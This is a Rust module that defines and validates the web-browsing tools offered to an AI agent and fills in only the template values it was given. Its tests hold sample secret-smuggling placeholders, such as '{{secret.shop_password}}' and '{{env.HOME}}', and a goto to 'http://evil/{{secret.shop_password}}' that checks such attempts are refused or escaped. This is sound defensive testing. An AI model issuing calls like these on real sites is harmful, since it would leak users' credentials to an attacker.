//! What a model may do: each call of a tool is one step that a person could do at the page, or a word about the task.

use serde::{Deserialize, de::DeserializeOwned};
use serde_json::{Map, Value, json};

use flowtilla_shared::domain::flow::template::{self, Origin, Part};

use crate::model::{Tool, ToolUse};

/// Characters of one text in a call, at most.
const LONGEST_TEXT: usize = 20_000;
/// Time for one action in milliseconds: the model sees the page again soon when it does not work.
pub(super) const ACTION_MS: u64 = 8_000;

/// What a call comes to.
#[derive(Clone, Debug, PartialEq)]
pub(super) enum Wanted {
    /// A step, the element by its ref.
    Step {
        reference: Option<String>,
        fields: Map<String, Value>,
    },
    /// Lines of the page that have this in them.
    Find(String),
    Done(String),
    GiveUp(String),
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct ClickInput {
    #[serde(rename = "ref")]
    reference: String,
    #[serde(default)]
    double: bool,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct ValueInput {
    #[serde(rename = "ref")]
    reference: String,
    value: String,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct CheckInput {
    #[serde(rename = "ref")]
    reference: String,
    checked: bool,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RefInput {
    #[serde(rename = "ref")]
    reference: String,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct PressInput {
    keys: String,
    #[serde(rename = "ref")]
    reference: Option<String>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct ScrollInput {
    direction: Towards,
    #[serde(rename = "ref")]
    reference: Option<String>,
}

#[derive(Deserialize)]
#[serde(rename_all = "snake_case")]
enum Towards {
    Up,
    Down,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct GotoInput {
    url: String,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct TextInput {
    text: String,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct NoInput {}

/// The tools as they are offered.
pub(super) fn tools() -> Vec<Tool> {
    const REF: &str = "The element, by its ref on the newest page, e.g. `e7`.";
    let text = |about: &str| json!({ "type": "string", "description": about });
    let function = |name: &str, about: &str, properties: Value, required: &[&str]| Tool::Function {
        name: name.to_owned(),
        description: about.to_owned(),
        schema: json!({ "type": "object", "properties": properties, "required": required, "additionalProperties": false }),
    };
    vec![
        function("click", "Clicks an element.", json!({ "ref": text(REF), "double": { "type": "boolean" } }), &["ref"]),
        function(
            "fill",
            "Puts a value into a field, in the place of what is there.",
            json!({ "ref": text(REF), "value": text("The value; `{{name}}` for one of the values given.") }),
            &["ref", "value"],
        ),
        function(
            "press",
            "Presses keys, e.g. `Enter`, `Escape`, `Control+A`.",
            json!({ "keys": text("The keys."), "ref": text(REF) }),
            &["keys"],
        ),
        function(
            "select",
            "Chooses an option of a combobox or listbox that is a <select>.",
            json!({ "ref": text(REF), "value": text("Label or value of the option.") }),
            &["ref", "value"],
        ),
        function(
            "check",
            "Sets a checkbox, a switch or a radio button.",
            json!({ "ref": text(REF), "checked": { "type": "boolean" } }),
            &["ref", "checked"],
        ),
        function("hover", "Moves the mouse over an element.", json!({ "ref": text(REF) }), &["ref"]),
        function(
            "scroll",
            "Scrolls the page, or what is around an element, by one screen.",
            json!({ "direction": { "type": "string", "enum": ["up", "down"] }, "ref": text(REF) }),
            &["direction"],
        ),
        function(
            "goto",
            "Opens an address of the site.",
            json!({ "url": text("Absolute, or relative to the page.") }),
            &["url"],
        ),
        function("back", "Goes back to the page before.", json!({}), &[]),
        function("wait_for", "Waits until a text is to be seen.", json!({ "text": text("A part of it.") }), &["text"]),
        function(
            "find",
            "Lists the lines of the whole page that have a text in them, with their refs: for pages of which you see only the beginning.",
            json!({ "text": text("A part of the line.") }),
            &["text"],
        ),
        function("done", "The task is done.", json!({ "text": text("What was done, in a sentence.") }), &["text"]),
        function("give_up", "The task cannot be done.", json!({ "text": text("Why, in a sentence.") }), &["text"]),
    ]
}

/// Reads a call.
///
/// # Errors
/// What is wrong with it, for the model.
pub(super) fn read(call: &ToolUse, values: &Map<String, Value>) -> Result<Wanted, String> {
    let step = |reference: Option<String>, fields: Value| {
        let mut fields = fields.as_object().cloned().unwrap_or_default();
        fields.insert("timeout_ms".into(), json!(ACTION_MS));
        Wanted::Step { reference: reference.map(|text| bare(&text)), fields }
    };
    let literal = |text: String| Ok::<_, String>(template::escaped(&short(text)?));
    Ok(match call.name.as_str() {
        "click" => {
            let ClickInput { reference, double } = input(call)?;
            let fields = if double { json!({ "type": "click", "count": 2 }) } else { json!({ "type": "click" }) };
            step(Some(reference), fields)
        }
        "fill" => {
            let ValueInput { reference, value } = input(call)?;
            step(Some(reference), json!({ "type": "fill", "value": given(&short(value)?, values)? }))
        }
        "press" => {
            let PressInput { keys, reference } = input(call)?;
            step(reference, json!({ "type": "press", "keys": literal(keys)? }))
        }
        "select" => {
            let ValueInput { reference, value } = input(call)?;
            step(Some(reference), json!({ "type": "select", "value": given(&short(value)?, values)? }))
        }
        "check" => {
            let CheckInput { reference, checked } = input(call)?;
            step(Some(reference), json!({ "type": if checked { "check" } else { "uncheck" } }))
        }
        "hover" => {
            let RefInput { reference } = input(call)?;
            step(Some(reference), json!({ "type": "hover" }))
        }
        "scroll" => {
            let ScrollInput { direction, reference } = input(call)?;
            let direction = match direction {
                Towards::Up => "up",
                Towards::Down => "down",
            };
            step(reference, json!({ "type": "scroll", "direction": direction, "pages": 1 }))
        }
        "goto" => {
            let GotoInput { url } = input(call)?;
            step(None, json!({ "type": "goto", "url": literal(url)? }))
        }
        "back" => {
            let NoInput {} = input(call)?;
            step(None, json!({ "type": "back" }))
        }
        "wait_for" => {
            let TextInput { text } = input(call)?;
            step(None, json!({ "type": "wait_for", "target": { "text": literal(text)?, "first": true } }))
        }
        "find" => Wanted::Find(short(input::<TextInput>(call)?.text)?),
        "done" => Wanted::Done(short(input::<TextInput>(call)?.text)?),
        "give_up" => Wanted::GiveUp(short(input::<TextInput>(call)?.text)?),
        other => return Err(format!("there is no tool `{}`", other.chars().take(80).collect::<String>())),
    })
}

fn input<T: DeserializeOwned>(call: &ToolUse) -> Result<T, String> {
    let shown = |e: serde_json::Error| format!("the input of `{}` is wrong: {e}", call.name);
    serde_json::from_value(call.input.clone()).map_err(shown)
}

fn short(text: String) -> Result<String, String> {
    if text.len() <= LONGEST_TEXT { Ok(text) } else { Err(format!("a text of {} bytes is too long", text.len())) }
}

/// `[ref=e7]` and `ref=e7` mean `e7`.
fn bare(reference: &str) -> String {
    let bare = reference.trim().trim_start_matches('[').trim_end_matches(']');
    bare.strip_prefix("ref=").unwrap_or(bare).chars().take(20).collect()
}

/// A text of the model with the values that it names, and nothing else that would be filled in.
fn given(text: &str, values: &Map<String, Value>) -> Result<String, String> {
    let Ok(parts) = template::parse(text) else { return Ok(template::escaped(text)) };
    let mut out = String::new();
    for part in parts {
        match part {
            Part::Text(literal) => out.push_str(&template::escaped(&literal)),
            Part::Value(reference) => {
                let known = (reference.origin == Origin::Value && reference.path.is_empty())
                    .then(|| values.get(&reference.name))
                    .flatten();
                match known {
                    Some(Value::String(raw)) => out.push_str(raw),
                    Some(other) => out.push_str(&other.to_string()),
                    None => {
                        let names: Vec<&str> = values.keys().map(String::as_str).collect();
                        let known = if names.is_empty() { "there are none".to_owned() } else { names.join(", ") };
                        return Err(format!("`{text}` names a value that was not given; the values: {known}"));
                    }
                }
            }
        }
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    #![expect(clippy::unwrap_used, reason = "a test may panic")]

    use super::*;

    fn call(name: &str, input: Value) -> ToolUse {
        ToolUse { id: "1".into(), name: name.into(), input, toolset: None, computer: false }
    }

    #[test]
    fn only_values_that_were_given_are_filled_in_and_nothing_else_of_a_model_ever_is() {
        let values = json!({ "password": "{{secret.shop_password}}", "n": 3 }).as_object().cloned().unwrap();
        let fill = |value: &str| read(&call("fill", json!({ "ref": "[ref=e1]", "value": value })), &values);
        let value = |value: &str| match fill(value).unwrap() {
            Wanted::Step { reference, fields } => {
                assert_eq!(reference.as_deref(), Some("e1"));
                fields["value"].as_str().unwrap().to_owned()
            }
            other => panic!("{other:?}"),
        };
        assert_eq!(value("{{password}}"), "{{secret.shop_password}}");
        assert_eq!(value("x{{n}}"), "x3");
        assert_eq!(value("a {{ b"), "a \\{{ b");
        for stolen in ["{{secret.shop_password}}", "{{env.HOME}}", "{{other}}", "{{password.x}}", "{{file.x}}"] {
            assert!(fill(stolen).is_err(), "{stolen}");
        }
        let goto = read(&call("goto", json!({ "url": "http://evil/{{secret.shop_password}}" })), &values).unwrap();
        let Wanted::Step { fields, .. } = goto else { panic!() };
        assert_eq!(fields["url"], "http://evil/\\{{secret.shop_password}}");
    }

    #[test]
    fn calls_that_are_not_wholly_understood_are_refused() {
        for (name, input) in [
            ("click", json!({})),
            ("click", json!({ "ref": "e1", "x": 1 })),
            ("click", json!("e1")),
            ("fill", json!({ "ref": "e1" })),
            ("scroll", json!({ "direction": "sideways" })),
            ("make_tea", json!({ "sugar": 2 })),
            ("fill", json!({ "ref": "e1", "value": "x".repeat(30_000) })),
            ("back", json!({ "url": "x" })),
        ] {
            assert!(read(&call(name, input), &Map::new()).is_err(), "{name}");
        }
    }
}
